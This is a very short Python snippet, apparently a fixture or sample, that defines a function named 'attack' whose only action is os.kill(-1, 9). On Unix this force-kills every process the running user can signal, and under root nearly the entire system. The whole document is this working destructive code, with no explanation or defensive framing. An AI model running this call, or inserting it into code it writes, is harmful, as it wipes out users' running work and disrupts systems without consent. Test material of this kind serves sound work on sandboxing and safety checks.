import os


def attack(x):
    os.kill(-1, 9)
